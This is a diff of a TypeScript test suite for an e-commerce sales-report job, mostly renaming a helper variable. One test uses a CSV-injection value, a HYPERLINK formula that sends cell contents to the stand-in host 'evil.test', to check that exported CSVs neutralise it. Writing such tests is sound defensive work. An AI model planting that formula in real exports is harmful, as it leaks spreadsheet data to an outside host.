@@ -4,32 +4,32 @@ import type { Reports } from '../../../src/application/ports/reports.ts';
 import { reportSales } from '../../../src/application/reports/report-sales.ts';
 import { Unavailable } from '../../../src/domain/errors.ts';
 import { inMemoryReports } from '../../support/in-memory/in-memory-reports.ts';
-import { address, customer, shop, warehouse } from '../../support/shop.ts';
+import { address, customer, openShop, warehouse } from '../../support/shop.ts';
 
 type Wrap = { orders?: (orders: Orders) => Orders; reports?: (reports: Reports) => Reports };
 
 /** A shop that sells from 1 March 2026, and its report job. `wrap` wraps the job's ports. */
 const reportedShop = (wrap: Wrap = {}) => {
-  const s = shop();
+  const shop = openShop();
   const reports = inMemoryReports();
-  s.clock.set('2026-03-01T10:00:00.000Z');
+  shop.clock.set('2026-03-01T10:00:00.000Z');
   const deps = {
-    orders: wrap.orders?.(s.orders) ?? s.orders,
+    orders: wrap.orders?.(shop.orders) ?? shop.orders,
     reports: wrap.reports?.(reports) ?? reports,
     renderCsv,
-    clock: s.clock,
-    log: s.log,
+    clock: shop.clock,
+    log: shop.log,
   };
 
   return {
-    ...s,
+    ...shop,
     reports,
     deps,
     report: reportSales(deps),
 
     async order(productId: string, quantity = 1, of = 'alice'): Promise<string> {
       const items = [{ productId, quantity }];
-      const { value } = await s.place({ customerId: of, items, shippingAddress: address });
+      const { value } = await shop.place({ customerId: of, items, shippingAddress: address });
       return value.id;
     },
 
@@ -55,105 +55,107 @@ const none = { placed: 0, confirmed: 0, rejected: 0, cancelled: 0, shipped: 0, u
 
 /** Two days: an order is placed and confirmed on the first, and cancelled on the second. */
 const twoDays = async (wrap?: Wrap) => {
-  const s = reportedShop(wrap);
-  await s.product('mug', 10, { amount: 1250 });
-  const id = await s.order('mug', 2);
-  await s.drain();
-  s.clock.set('2026-03-02T00:15:00.000Z');
-  return { s, id };
+  const shop = reportedShop(wrap);
+  await shop.product('mug', 10, { amount: 1250 });
+  const id = await shop.order('mug', 2);
+  await shop.drain();
+  shop.clock.set('2026-03-02T00:15:00.000Z');
+  return { shop, id };
 };
 
 test('each event counts on its own day, and the bytes of a day that is reported stay as they are', async () => {
-  const { s, id } = await twoDays();
-  expect(await s.report()).toEqual({ reported: 1, left: 0 });
-  const first = { json: await s.text('2026-03-01'), csv: await s.text('2026-03-01', 'csv') };
+  const { shop, id } = await twoDays();
+  expect(await shop.report()).toEqual({ reported: 1, left: 0 });
+  const first = { json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') };
   const sold = { ...none, placed: 1, confirmed: 1, units: 2, revenue: 2500 };
   expect(JSON.parse(first.json)).toEqual({
     date: '2026-03-01',
     totals: [{ currency: 'EUR', ...sold }],
     products: [{ currency: 'EUR', productId: 'mug', name: 'MUG', ...sold }],
   });
-  await s.cancel({ orderId: id, principal: customer(), precondition: {} });
-  await s.drain();
-  s.clock.set('2026-03-03T02:00:00.000Z');
-  expect(await s.report()).toEqual({ reported: 1, left: 0 });
-  expect((await s.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...none, cancelled: 1 }]);
-  expect({ json: await s.text('2026-03-01'), csv: await s.text('2026-03-01', 'csv') }).toEqual(first);
+  await shop.cancel({ orderId: id, principal: customer(), precondition: {} });
+  await shop.drain();
+  shop.clock.set('2026-03-03T02:00:00.000Z');
+  expect(await shop.report()).toEqual({ reported: 1, left: 0 });
+  expect((await shop.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...none, cancelled: 1 }]);
+  expect({ json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') }).toEqual(first);
 
   // A report of today has the same bytes: nothing was taken back from the first day.
   const anew = inMemoryReports();
-  await reportSales({ ...s.deps, reports: anew })();
+  await reportSales({ ...shop.deps, reports: anew })();
   for (const day of ['2026-03-01', '2026-03-02']) {
     for (const format of ['json', 'csv'] as const) {
-      expect(Buffer.from((await anew.read(day, format)) ?? []).toString()).toBe(await s.text(day, format));
+      expect(Buffer.from((await anew.read(day, format)) ?? []).toString()).toBe(await shop.text(day, format));
     }
   }
 });
 
 test('an order that is short is rejected on its day, one that leaves is shipped on its day', async () => {
-  const s = reportedShop();
-  await s.product('mug', 2);
-  const id = await s.order('mug', 2);
-  await s.drain();
-  await s.order('mug', 1, 'bob');
-  await s.drain();
-  s.clock.set('2026-03-03T10:00:00.000Z');
+  const shop = reportedShop();
+  await shop.product('mug', 2);
+  const id = await shop.order('mug', 2);
+  await shop.drain();
+  await shop.order('mug', 1, 'bob');
+  await shop.drain();
+  shop.clock.set('2026-03-03T10:00:00.000Z');
   const shipment = { carrier: 'DHL', trackingNumber: '1' };
-  await s.ship({ orderId: id, principal: warehouse, precondition: {}, shipment });
-  await s.drain();
-  s.clock.set('2026-03-04T02:00:00.000Z');
-  await s.report();
-  const [first] = (await s.json('2026-03-01')).totals;
+  await shop.ship({ orderId: id, principal: warehouse, precondition: {}, shipment });
+  await shop.drain();
+  shop.clock.set('2026-03-04T02:00:00.000Z');
+  await shop.report();
+  const [first] = (await shop.json('2026-03-01')).totals;
   expect(first).toMatchObject({ placed: 2, confirmed: 1, rejected: 1, shipped: 0, units: 2, revenue: 2000 });
-  expect((await s.json('2026-03-03')).products).toMatchObject([{ ...none, productId: 'mug', shipped: 1 }]);
+  expect((await shop.json('2026-03-03')).products).toMatchObject([{ ...none, productId: 'mug', shipped: 1 }]);
 });
 
 test('a day is open until a quarter of an hour after its end', async () => {
-  const { s } = await twoDays();
-  s.clock.set('2026-03-02T00:14:59.999Z');
-  expect(await s.report()).toEqual({ reported: 0, left: 0 });
-  expect(s.reports.names()).toEqual([]);
+  const { shop } = await twoDays();
+  shop.clock.set('2026-03-02T00:14:59.999Z');
+  expect(await shop.report()).toEqual({ reported: 0, left: 0 });
+  expect(shop.reports.names()).toEqual([]);
 });
 
 test('a shop without orders has no reports', async () => {
-  const s = reportedShop();
-  expect(await s.report()).toEqual({ reported: 0, left: 0 });
-  expect(s.reports.names()).toEqual([]);
+  const shop = reportedShop();
+  expect(await shop.report()).toEqual({ reported: 0, left: 0 });
+  expect(shop.reports.names()).toEqual([]);
 });
 
 test('skipped nights are made up for, including days without orders', async () => {
-  const { s } = await twoDays();
-  await s.report();
-  s.clock.set('2026-03-03T23:59:59.999Z');
-  await s.order('mug');
-  await s.drain();
-  s.clock.set('2026-03-05T02:00:00.000Z');
-  expect(await s.report()).toEqual({ reported: 3, left: 0 });
+  const { shop } = await twoDays();
+  await shop.report();
+  shop.clock.set('2026-03-03T23:59:59.999Z');
+  await shop.order('mug');
+  await shop.drain();
+  shop.clock.set('2026-03-05T02:00:00.000Z');
+  expect(await shop.report()).toEqual({ reported: 3, left: 0 });
   const days = ['01', '02', '03', '04'].map((day) => `2026-03-${day}`);
-  expect(s.reports.names()).toEqual(days.flatMap((day) => [`sales/${day}.csv`, `sales/${day}.json`]));
+  expect(shop.reports.names()).toEqual(days.flatMap((day) => [`sales/${day}.csv`, `sales/${day}.json`]));
   for (const day of ['2026-03-02', '2026-03-04']) {
-    expect(await s.json(day)).toEqual({ date: day, totals: [], products: [] });
-    expect((await s.text(day, 'csv')).split('\r\n')).toHaveLength(2);
+    expect(await shop.json(day)).toEqual({ date: day, totals: [], products: [] });
+    expect((await shop.text(day, 'csv')).split('\r\n')).toHaveLength(2);
   }
-  expect((await s.json('2026-03-03')).totals).toMatchObject([{ placed: 1, confirmed: 1 }]);
+  expect((await shop.json('2026-03-03')).totals).toMatchObject([{ placed: 1, confirmed: 1 }]);
 });
 
 test('the same night twice reports nothing again', async () => {
-  const { s } = await twoDays();
-  await s.report();
-  const before = await s.stored();
-  expect(await s.report()).toEqual({ reported: 0, left: 0 });
-  expect(await s.stored()).toEqual(before);
+  const { shop } = await twoDays();
+  await shop.report();
+  const before = await shop.stored();
+  expect(await shop.report()).toEqual({ reported: 0, left: 0 });
+  expect(await shop.stored()).toEqual(before);
 });
 
 test('two runs at once report every day once, with the same content', async () => {
-  const { s } = await twoDays();
-  s.clock.set('2026-03-06T02:00:00.000Z');
-  await Promise.all([s.report(), s.report(), s.report()]);
-  const outcomes = s.log.entries.filter(({ event }) => event === 'report_written').map(({ fields }) => fields.outcome);
+  const { shop } = await twoDays();
+  shop.clock.set('2026-03-06T02:00:00.000Z');
+  await Promise.all([shop.report(), shop.report(), shop.report()]);
+  const outcomes = shop.log.entries
+    .filter(({ event }) => event === 'report_written')
+    .map(({ fields }) => fields.outcome);
   expect(outcomes.filter((outcome) => outcome === 'created')).toHaveLength(5);
   expect(outcomes).toHaveLength(15);
-  expect((await s.json('2026-03-01')).totals).toMatchObject([{ placed: 1 }]);
+  expect((await shop.json('2026-03-01')).totals).toMatchObject([{ placed: 1 }]);
 });
 
 /** Storage that fails once, at the write of this format. */
@@ -169,31 +171,31 @@ const dyingAt = (format: 'csv' | 'json'): Wrap => {
 };
 
 test.each(['csv', 'json'] as const)('the next run makes up for one that dies before the %s', async (format) => {
-  const { s } = await twoDays(dyingAt(format));
-  await expect(s.report()).rejects.toThrow('2026-03-01');
-  expect(s.reports.names()).toEqual(format === 'csv' ? [] : ['sales/2026-03-01.csv']);
-  expect(await s.report()).toEqual({ reported: 1, left: 0 });
-  expect(s.reports.names()).toEqual(['sales/2026-03-01.csv', 'sales/2026-03-01.json']);
+  const { shop } = await twoDays(dyingAt(format));
+  await expect(shop.report()).rejects.toThrow('2026-03-01');
+  expect(shop.reports.names()).toEqual(format === 'csv' ? [] : ['sales/2026-03-01.csv']);
+  expect(await shop.report()).toEqual({ reported: 1, left: 0 });
+  expect(shop.reports.names()).toEqual(['sales/2026-03-01.csv', 'sales/2026-03-01.json']);
 });
 
 test('a CSV with other content is neither accepted next to our JSON nor overwritten', async () => {
-  const { s } = await twoDays();
-  await s.reports.create('2026-03-01', 'csv', Buffer.from('other'));
-  await expect(s.report()).rejects.toThrow('2026-03-01');
+  const { shop } = await twoDays();
+  await shop.reports.create('2026-03-01', 'csv', Buffer.from('other'));
+  await expect(shop.report()).rejects.toThrow('2026-03-01');
   // The alert shows this to the operator, the only one who can fix it.
-  expect(s.log.entries.at(-1)).toMatchObject({
+  expect(shop.log.entries.at(-1)).toMatchObject({
     event: 'report_failed',
     fields: { day: '2026-03-01', reason: expect.stringMatching(/different CSV for 2026-03-01.* Delete it/) },
   });
-  expect(s.reports.names()).toEqual(['sales/2026-03-01.csv']);
-  expect(await s.text('2026-03-01', 'csv')).toBe('other');
-  s.reports.remove('2026-03-01', 'csv');
-  expect(await s.report()).toEqual({ reported: 1, left: 0 });
+  expect(shop.reports.names()).toEqual(['sales/2026-03-01.csv']);
+  expect(await shop.text('2026-03-01', 'csv')).toBe('other');
+  shop.reports.remove('2026-03-01', 'csv');
+  expect(await shop.report()).toEqual({ reported: 1, left: 0 });
 });
 
 test('a day that fails does not stop the reports of other days, and is named at the end', async () => {
   let broken = new Set(['2026-03-02', '2026-03-04']);
-  const { s } = await twoDays({
+  const { shop } = await twoDays({
     orders: (orders) => ({
       ...orders,
       listEvents: (status, day) => {
@@ -202,16 +204,16 @@ test('a day that fails does not stop the reports of other days, and is named at 
       },
     }),
   });
-  s.clock.set('2026-03-06T02:00:00.000Z');
-  await expect(s.report()).rejects.toThrow('2026-03-02, 2026-03-04');
-  expect([...(await s.reports.listDays())].toSorted()).toEqual(['2026-03-01', '2026-03-03', '2026-03-05']);
-  const failures = s.log.entries.filter(({ event }) => event === 'report_failed');
+  shop.clock.set('2026-03-06T02:00:00.000Z');
+  await expect(shop.report()).rejects.toThrow('2026-03-02, 2026-03-04');
+  expect([...(await shop.reports.listDays())].toSorted()).toEqual(['2026-03-01', '2026-03-03', '2026-03-05']);
+  const failures = shop.log.entries.filter(({ event }) => event === 'report_failed');
   expect(failures.map(({ level, fields }) => [level, fields.day, fields.reason])).toEqual([
     ['error', '2026-03-04', 'cosmos is not available.'],
     ['error', '2026-03-02', 'cosmos is not available.'],
   ]);
   broken = new Set();
-  expect(await s.report()).toEqual({ reported: 2, left: 0 });
+  expect(await shop.report()).toEqual({ reported: 2, left: 0 });
 });
 
 /** Records the days that the job asks for. `fail` may throw for some of them. */
@@ -232,9 +234,9 @@ const watched = (fail: (day: string) => void): { tried: string[]; wrap: Wrap } =
 
 test('the newest day goes first, those of a backlog after it', async () => {
   const { tried, wrap } = watched(() => undefined);
-  const { s } = await twoDays(wrap);
-  s.clock.set('2026-03-05T02:00:00.000Z');
-  await s.report();
+  const { shop } = await twoDays(wrap);
+  shop.clock.set('2026-03-05T02:00:00.000Z');
+  await shop.report();
   expect(tried).toEqual(['2026-03-04', '2026-03-03', '2026-03-02', '2026-03-01']);
 });
 
@@ -242,9 +244,9 @@ test('three days in a row for which a service was not available end the run, whi
   const { tried, wrap } = watched((day) => {
     if (day !== '2026-03-07') throw new Unavailable('cosmos');
   });
-  const { s } = await twoDays(wrap);
-  s.clock.set('2026-03-09T02:00:00.000Z');
-  await expect(s.report()).rejects.toThrow(
+  const { shop } = await twoDays(wrap);
+  shop.clock.set('2026-03-09T02:00:00.000Z');
+  await expect(shop.report()).rejects.toThrow(
     '2026-03-04, 2026-03-05, 2026-03-06, 2026-03-08, and 3 further days were not tried',
   );
   expect(tried).toEqual(['2026-03-08', '2026-03-07', '2026-03-06', '2026-03-05', '2026-03-04']);
@@ -254,52 +256,52 @@ test('days that fail by themselves do not end the run, however many they are', a
   const { tried, wrap } = watched((day) => {
     if (day !== '2026-03-01') throw new RangeError('no sum');
   });
-  const { s } = await twoDays(wrap);
-  s.clock.set('2026-03-08T02:00:00.000Z');
-  await expect(s.report()).rejects.toThrow('2026-03-07. See');
+  const { shop } = await twoDays(wrap);
+  shop.clock.set('2026-03-08T02:00:00.000Z');
+  await expect(shop.report()).rejects.toThrow('2026-03-07. See');
   expect(tried).toHaveLength(7);
-  expect([...(await s.reports.listDays())]).toEqual(['2026-03-01']);
+  expect([...(await shop.reports.listDays())]).toEqual(['2026-03-01']);
 });
 
 test('an order whose amounts cannot be added up fails its day loudly', async () => {
-  const { s } = await twoDays();
-  for (const { id } of s.orders.stored()) {
-    const stored = await s.orders.get(id);
+  const { shop } = await twoDays();
+  for (const { id } of shop.orders.stored()) {
+    const stored = await shop.orders.get(id);
     if (!stored) throw new Error('no order');
     const items = stored.value.items.map((item) => ({ ...item, lineTotal: 2 ** 53 }));
-    await s.orders.replace({ ...stored.value, items }, stored.etag);
+    await shop.orders.replace({ ...stored.value, items }, stored.etag);
   }
-  await expect(s.report()).rejects.toThrow('2026-03-01');
-  expect(s.reports.names()).toEqual([]);
-  expect(JSON.stringify(s.log.entries)).toContain('not a safe integer');
+  await expect(shop.report()).rejects.toThrow('2026-03-01');
+  expect(shop.reports.names()).toEqual([]);
+  expect(JSON.stringify(shop.log.entries)).toContain('not a safe integer');
 });
 
 test('a long run starts no further day after some minutes and says how many are left, and the next run goes on', async () => {
-  const { s } = await twoDays({
+  const { shop } = await twoDays({
     reports: (reports) => ({
       ...reports,
       create: (...args) => {
-        s.clock.advance(7 * 60_000);
+        shop.clock.advance(7 * 60_000);
         return reports.create(...args);
       },
     }),
   });
-  s.clock.set('2026-03-08T02:00:00.000Z');
-  expect(await s.report()).toEqual({ reported: 2, left: 5 });
-  expect([...(await s.reports.listDays())].toSorted()).toEqual(['2026-03-06', '2026-03-07']);
-  expect(await s.report()).toEqual({ reported: 2, left: 3 });
+  shop.clock.set('2026-03-08T02:00:00.000Z');
+  expect(await shop.report()).toEqual({ reported: 2, left: 5 });
+  expect([...(await shop.reports.listDays())].toSorted()).toEqual(['2026-03-06', '2026-03-07']);
+  expect(await shop.report()).toEqual({ reported: 2, left: 3 });
 });
 
 test('currencies have totals and rows of their own', async () => {
-  const s = reportedShop();
-  await s.product('mug', 10, { amount: 1250 });
-  await s.product('cup', 10, { amount: 900, currency: 'USD' });
-  await s.order('mug', 2);
-  await s.order('cup', 3);
-  await s.drain();
-  s.clock.set('2026-03-02T02:00:00.000Z');
-  await s.report();
-  const { totals, products } = await s.json('2026-03-01');
+  const shop = reportedShop();
+  await shop.product('mug', 10, { amount: 1250 });
+  await shop.product('cup', 10, { amount: 900, currency: 'USD' });
+  await shop.order('mug', 2);
+  await shop.order('cup', 3);
+  await shop.drain();
+  shop.clock.set('2026-03-02T02:00:00.000Z');
+  await shop.report();
+  const { totals, products } = await shop.json('2026-03-01');
   expect(totals).toMatchObject([
     { currency: 'EUR', revenue: 2500 },
     { currency: 'USD', revenue: 2700 },
@@ -311,34 +313,34 @@ test('currencies have totals and rows of their own', async () => {
 });
 
 test('a name that a spreadsheet would calculate is unchanged in JSON, and text in CSV', async () => {
-  const s = reportedShop();
+  const shop = reportedShop();
   const name = '=HYPERLINK("http://evil.test?"&A1)';
   const details = { name, price: { amount: 100, currency: 'EUR' }, active: true };
-  await s.put({ id: 'mug', details, precondition: {} });
-  await s.set({ productId: 'mug', units: 5, precondition: {} });
-  await s.order('mug');
-  s.clock.set('2026-03-02T02:00:00.000Z');
-  await s.report();
-  expect((await s.json('2026-03-01')).products[0].name).toBe(name);
-  expect(await s.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
+  await shop.put({ id: 'mug', details, precondition: {} });
+  await shop.set({ productId: 'mug', units: 5, precondition: {} });
+  await shop.order('mug');
+  shop.clock.set('2026-03-02T02:00:00.000Z');
+  await shop.report();
+  expect((await shop.json('2026-03-01')).products[0].name).toBe(name);
+  expect(await shop.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
 });
 
 test('a day with many events logs its progress and how long it took', async () => {
-  const { s } = await twoDays({
+  const { shop } = await twoDays({
     orders: (orders) => ({
       ...orders,
       async *listEvents(_status, day) {
-        s.clock.advance(1_000);
+        shop.clock.advance(1_000);
         for (let n = 0; n < 6_000; n++) {
           yield { sortKey: `${day}|${n}`, currency: 'EUR', items: [] };
         }
       },
     }),
   });
-  await s.report();
-  const signs = s.log.entries.filter(({ event }) => event === 'report_progress').map(({ fields }) => fields.events);
+  await shop.report();
+  const signs = shop.log.entries.filter(({ event }) => event === 'report_progress').map(({ fields }) => fields.events);
   expect(signs).toEqual([10_000, 20_000, 30_000]);
-  expect(s.log.entries.at(-1)).toMatchObject({
+  expect(shop.log.entries.at(-1)).toMatchObject({
     event: 'report_written',
     fields: { day: '2026-03-01', events: 30_000, ms: 5_000 },
   });
